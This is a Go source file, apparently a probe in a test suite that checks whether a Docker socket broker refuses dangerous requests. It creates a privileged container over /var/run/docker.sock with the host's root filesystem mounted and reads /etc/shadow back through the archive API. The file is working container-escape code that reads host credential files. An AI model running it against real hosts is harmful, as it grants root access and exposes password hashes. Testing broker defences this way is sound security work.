package main

import (
	"archive/tar"
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"
)

// docker-root IMAGE: through /var/run/docker.sock, create a privileged
// container of IMAGE with the host's / bound at /host and read
// /host/etc/shadow out of it with the archive endpoint (docker cp: no
// program of the image runs). Reports "read USER" (the first account
// name of the host's shadow file) or "refused MESSAGE" (the engine's or
// the broker's answer).
func init() { attacks["docker-root"] = dockerRoot }

func dockerRoot(img string) string {
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	hc := &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "unix", "/var/run/docker.sock")
	}}}
	do := func(method, path, body string) (*http.Response, error) {
		req, err := http.NewRequestWithContext(ctx, method, "http://docker/v1.41"+path, strings.NewReader(body))
		if err != nil {
			return nil, err
		}
		req.Header.Set("Content-Type", "application/json")
		return hc.Do(req)
	}
	message := func(resp *http.Response) string {
		var m struct{ Message string }
		json.NewDecoder(resp.Body).Decode(&m)
		return fmt.Sprintf("%d %s", resp.StatusCode, m.Message)
	}
	create := fmt.Sprintf(`{"Image":%q,"Cmd":["cat","/host/etc/shadow"],"HostConfig":{"Privileged":true,"Binds":["/:/host"],"NetworkMode":"host"}}`, img)
	resp, err := do("POST", "/containers/create", create)
	if err != nil {
		return "error " + err.Error()
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusCreated {
		return "refused " + message(resp)
	}
	var c struct{ Id string }
	if err := json.NewDecoder(resp.Body).Decode(&c); err != nil {
		return "error " + err.Error()
	}
	defer func() {
		if r, err := do("DELETE", "/containers/"+c.Id+"?force=1", ""); err == nil {
			r.Body.Close()
		}
	}()
	ar, err := do("GET", "/containers/"+c.Id+"/archive?path=/host/etc/shadow", "")
	if err != nil {
		return "created, archive error " + err.Error()
	}
	defer ar.Body.Close()
	if ar.StatusCode != http.StatusOK {
		return "created, archive refused " + message(ar)
	}
	tr := tar.NewReader(ar.Body)
	if _, err := tr.Next(); err != nil {
		return "created, archive error " + err.Error()
	}
	line, _ := bufio.NewReader(io.LimitReader(tr, 4096)).ReadString('\n')
	user, _, _ := strings.Cut(line, ":")
	return "read " + user
}
